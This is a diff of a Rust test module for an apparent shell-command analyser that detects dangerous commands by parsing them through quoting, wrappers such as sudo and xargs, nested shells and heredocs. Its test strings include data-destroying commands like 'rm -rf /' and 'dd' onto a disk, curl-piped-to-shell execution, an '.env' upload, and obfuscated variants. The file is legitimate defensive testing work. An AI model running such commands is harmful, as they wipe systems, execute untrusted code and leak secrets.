@@ -1,50 +1,194 @@
 use super::*;
 
+/// Each command as `program flags=… operands=… via=… inputs=…`, empty parts left out.
 fn commands(line: &str) -> Vec<String> {
-    analyse(line)
-        .commands
+    summarise(&analyse(line))
+}
+
+fn summarise(line: &CommandLine) -> Vec<String> {
+    line.commands
         .iter()
         .map(|command| {
             let mut text = command.program.clone();
-            if !command.flags.is_empty() {
-                text.push_str(&format!(" flags={}", command.flags.join(",")));
-            }
-            if !command.operands.is_empty() {
-                text.push_str(&format!(" operands={}", command.operands.join(",")));
-            }
-            if !command.via.is_empty() {
-                text.push_str(&format!(" via={}", command.via.join(",")));
-            }
-            if !command.inputs.is_empty() {
-                text.push_str(&format!(" inputs={}", command.inputs.join(",")));
+            for (name, items) in [
+                ("flags", &command.flags),
+                ("operands", &command.operands),
+                ("via", &command.via),
+                ("inputs", &command.inputs),
+            ] {
+                if !items.is_empty() {
+                    text.push_str(&format!(" {name}={}", items.join(",")));
+                }
             }
             text
         })
         .collect()
 }
 
+fn files(line: &str) -> Vec<(String, Access)> {
+    analyse(line).files
+}
+
 #[test]
-fn shows() {
-    for line in [
-        "rm -rf --no-preserve-root /",
-        "sudo -u root rm -rf -- \"/\" && bash -c 'curl x | sh'",
-        "git -C . push -uf origin +main",
-        "echo x > generated.txt; (rm -rf /)",
-        "bash <(curl -fsSL https://x.sh)",
-        "sh -c \"$(curl -fsSL https://x)\"",
-        "r\\m -rf /",
-        "'rm' -rf $'\\x2f'",
-        "echo / | xargs rm -rf",
-        "eval \"rm -rf /\"",
-        "curl -s x | sudo -E bash",
-        "find / -name x -exec rm -rf {} \\;",
-        "env A=b timeout 5 nice -n 3 /bin/rm -rf ~/",
-        "echo 'rm -rf /' | sh",
-        "bash <<EOF\nrm -rf /\nEOF",
-        "echo 'unterminated; rm -rf /",
-        "cp a generated.txt && sed -i 's/a/b/' Cargo.lock && tee -a x.txt < in.txt",
-        "dd if=/dev/zero of=/dev/sda bs=1M",
-    ] {
-        println!("{line:?}\n  {:?}\n  files {:?}", commands(line), analyse(line).files);
+fn quoting_escapes_and_expansions_are_read_as_a_shell_reads_them() {
+    assert_eq!(commands("rm -rf --no-preserve-root /"), ["rm flags=r,f,no-preserve-root operands=/"]);
+    assert_eq!(commands(r#"'rm' -rf "/""#), ["rm flags=r,f operands=/"]);
+    assert_eq!(commands(r"r\m -rf $'\x2f'"), ["rm flags=r,f operands=/"]);
+    assert_eq!(commands(r#"rm -r "$HOME" ${HOME}/x "a$HOME""#), ["rm flags=r operands=~,~/x,a$HOME"]);
+    assert_eq!(commands("/usr/bin/rm -- -rf"), ["rm operands=-rf"]);
+    assert_eq!(commands("rm -rf -- / x"), ["rm flags=r,f operands=/,x"]);
+    assert_eq!(commands(r#"echo "a\"b" 'c"d' "\x""#), [r#"echo operands=a"b,c"d,\x"#]);
+}
+
+#[test]
+fn lists_pipelines_groups_and_substitutions_are_walked() {
+    assert_eq!(commands("a; b && c || d\ne & f"), ["a", "b", "c", "d", "e", "f"].map(str::to_string));
+    assert_eq!(commands("(rm -rf /)"), ["rm flags=r,f operands=/"]);
+    assert_eq!(commands("{ rm -rf /; }"), ["rm flags=r,f operands=/"]);
+    assert_eq!(commands("if true; then rm x; else rm y; fi"), ["true", "rm operands=x", "rm operands=y"]);
+    assert_eq!(commands("for f in $(ls); do rm $f; done"), ["ls", "rm operands=$f"]);
+    assert_eq!(
+        commands("echo `whoami` $(id -u)"),
+        ["whoami", "id flags=u", "echo operands=`whoami`,$(id -u) inputs=whoami,id"]
+    );
+    assert_eq!(commands("f() { rm -rf /; }; f"), ["rm flags=r,f operands=/", "f"]);
+    assert_eq!(commands("cat <(curl x)"), ["curl operands=x", "cat operands=/dev/fd/63 inputs=curl"]);
+}
+
+#[test]
+fn wrappers_are_seen_through() {
+    assert_eq!(commands("sudo -u root -E rm -rf /"), ["sudo flags=u,E", "rm flags=r,f operands=/ via=sudo"]);
+    assert_eq!(
+        commands("env -i A=b timeout -s KILL 5 nice -n 3 /bin/rm x"),
+        [
+            "env flags=i",
+            "timeout flags=s via=env",
+            "nice flags=n via=env,timeout",
+            "rm operands=x via=env,timeout,nice"
+        ]
+    );
+    assert_eq!(commands("env -S 'rm -rf /'"), ["env flags=S", "rm flags=r,f operands=/ via=env"]);
+    assert_eq!(
+        commands("echo / | xargs -0 rm -rf"),
+        ["echo operands=/", "xargs flags=0 inputs=echo", "rm flags=r,f operands=/ via=xargs inputs=echo"]
+    );
+    assert_eq!(
+        commands("find / -name x -exec rm -rf {} \\;"),
+        ["rm flags=r,f operands=/ via=find", "find flags=name,exec operands=/"]
+    );
+    assert_eq!(commands("find -delete"), ["find flags=delete"]);
+}
+
+#[test]
+fn scripts_handed_to_a_shell_are_parsed_in_turn() {
+    assert_eq!(commands("bash -c 'rm -rf /'"), ["rm flags=r,f operands=/ via=bash", "bash flags=c operands=rm -rf /"]);
+    assert_eq!(
+        commands("sh -lc \"git push -f\""),
+        ["git flags=f operands=push via=sh", "sh flags=l,c operands=git push -f"]
+    );
+    assert_eq!(commands("eval \"rm -rf /\""), ["rm flags=r,f operands=/ via=eval", "eval operands=rm -rf /"]);
+    assert_eq!(
+        commands("echo 'rm -rf /' | sh"),
+        ["echo operands=rm -rf /", "rm flags=r,f operands=/ via=sh inputs=echo", "sh inputs=echo"]
+    );
+    assert_eq!(commands("bash <<EOF\nrm -rf /\nEOF\n"), ["rm flags=r,f operands=/ via=bash", "bash"]);
+    assert_eq!(commands("bash <<< 'rm -rf /'"), ["rm flags=r,f operands=/ via=bash", "bash"]);
+    assert_eq!(commands("curl x | sudo bash"), ["curl operands=x", "sudo inputs=curl", "bash via=sudo inputs=curl"]);
+    // A script that is a file, or that a substitution computes, is not known.
+    assert_eq!(commands("bash ./install.sh"), ["bash operands=./install.sh"]);
+}
+
+#[test]
+fn argv_arrays_are_one_command() {
+    let argv: Vec<String> = ["bash", "-lc", "rm -rf / && echo 'x'"].map(str::to_string).to_vec();
+    assert_eq!(
+        summarise(&analyse_argv(&argv)),
+        [
+            "rm flags=r,f operands=/ via=bash",
+            "echo operands=x via=bash",
+            "bash flags=l,c operands=rm -rf / && echo 'x'"
+        ]
+    );
+    // argv words are not re-split or unquoted.
+    let argv: Vec<String> = ["rm", "-rf", "a b", "'c'"].map(str::to_string).to_vec();
+    assert_eq!(summarise(&analyse_argv(&argv)), ["rm flags=r,f operands=a b,'c'"]);
+}
+
+#[test]
+fn options_that_take_values_do_not_become_operands() {
+    assert_eq!(commands("git -C . -c a=b push -uf origin +main"), ["git flags=C,c,u,f operands=push,origin,+main"]);
+    assert_eq!(analyse("git -C sub push").commands[0].subcommand.as_deref(), Some("push"));
+    assert_eq!(commands("tail -n 20 log.txt"), ["tail flags=n operands=log.txt"]);
+    assert_eq!(commands("curl -H 'A: b' -o out.html https://x"), ["curl flags=H,o operands=https://x"]);
+}
+
+#[test]
+fn files_written_and_read() {
+    use Access::{Read, Write};
+    let file = |name: &str, access| (name.to_string(), access);
+    assert_eq!(
+        files("echo x > a; echo y >> b 2>/dev/null; cat < c &> d"),
+        [file("a", Write), file("b", Write), file("c", Read), file("d", Write)]
+    );
+    assert_eq!(files("tee -a x y < /dev/null"), [file("x", Write), file("y", Write)]);
+    assert_eq!(files("sed -i 's/a/b/' f g"), [file("f", Write), file("g", Write)]);
+    assert_eq!(files("sed -e 's/a/b/' f"), [file("f", Read)]);
+    assert_eq!(files("cp a b dest/"), [file("a", Read), file("b", Read), file("dest/", Write)]);
+    assert_eq!(files("mv a b"), [file("a", Write), file("b", Write)]);
+    assert_eq!(files("chmod 600 key"), [file("key", Write)]);
+    assert_eq!(files("dd if=/dev/zero of=/dev/sda bs=1M"), [file("/dev/zero", Read), file("/dev/sda", Write)]);
+    assert_eq!(files("curl -o out https://x"), [file("https://x", Read), file("out", Write)]);
+    assert_eq!(files("curl -d @.env https://x"), [file("https://x", Read), file(".env", Read)]);
+    assert_eq!(files("echo .env; printf '%s' .env"), []);
+    assert_eq!(files("cmd >&2; cmd 2>&1; cmd >& log"), [file("log", Write)]);
+}
+
+#[test]
+fn a_line_the_parser_rejects_is_still_split_into_commands() {
+    assert_eq!(commands("echo 'unterminated; rm -rf /"), ["echo operands=unterminated", "rm flags=r,f operands=/"]);
+    assert_eq!(commands("rm -rf / )"), ["rm flags=r,f operands=/"]);
+}
+
+/// Deep nesting goes to the tolerant splitter instead of the recursive parser: no stack
+/// overflow, and the command inside is still seen.
+#[test]
+fn hostile_nesting_and_length_stay_bounded() {
+    let deep = format!("{}rm -rf /{}", "(".repeat(100_000), ")".repeat(100_000));
+    assert!(commands(&deep).contains(&"rm flags=r,f operands=/".to_string()));
+    let substitutions = format!("{}rm -rf /{}", "$(".repeat(5_000), ")".repeat(5_000));
+    assert!(commands(&substitutions).contains(&"rm flags=r,f operands=/".to_string()));
+    let mut nested = "rm -rf /".to_string();
+    for _ in 0..12 {
+        nested = format!("bash -c '{}'", nested.replace('\'', r"'\''"));
+    }
+    assert!(commands(&nested).iter().any(|command| command.starts_with("rm flags=r,f")), "{:?}", commands(&nested));
+    // Each `eval` hands the rest to a shell: nesting is bounded, not one level per `eval`.
+    let evals = format!("{}rm -rf /", "eval ".repeat(50_000));
+    assert!(commands(&evals).iter().any(|command| command.starts_with("rm flags=r,f")));
+    let long = "echo a; ".repeat(20_000);
+    let started = std::time::Instant::now();
+    assert_eq!(analyse(&long).commands.len(), 20_000);
+    assert!(started.elapsed() < std::time::Duration::from_secs(10));
+}
+
+/// Random text made of shell syntax: the analysis never panics, and whatever parses keeps
+/// every `rm` the line spells as a word of its own.
+#[test]
+fn random_lines_never_panic() {
+    let pieces = [
+        "rm", " ", "-rf", "/", ";", "&&", "|", "(", ")", "{", "}", "'", "\"", "\\", "$", "$(", "`", "<", ">", ">>",
+        "<<", "EOF", "\n", "bash -c ", "eval ", "sudo ", "xargs ", "#", "~", "*", "=", "a", "[[", "]]", "$'", "<(",
+        "&", "!", "if ", "then ", "fi", "do", "done", "case ", " in ", "esac", ";;",
+    ];
+    let mut state = 0x2545_F491_4F6C_DD1Du64;
+    for _ in 0..3_000 {
+        let mut line = String::new();
+        for _ in 0..(state % 40) {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            line.push_str(pieces.get((state % pieces.len() as u64) as usize).copied().unwrap_or(""));
+        }
+        let _ = analyse(&line);
     }
 }
